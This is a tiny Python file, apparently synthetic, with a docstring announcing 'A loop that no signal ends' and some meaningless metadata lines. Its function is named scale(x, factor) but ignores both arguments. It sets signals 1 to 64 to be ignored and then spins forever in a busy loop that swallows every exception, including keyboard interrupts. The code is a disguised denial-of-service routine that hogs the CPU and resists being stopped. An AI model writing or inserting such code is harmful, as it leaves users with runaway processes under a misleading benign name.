"""A loop that no signal ends.

honest: 50
verdict: time
with: average, threshold, layer
"""

# %% scale
import signal


def scale(x, factor):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
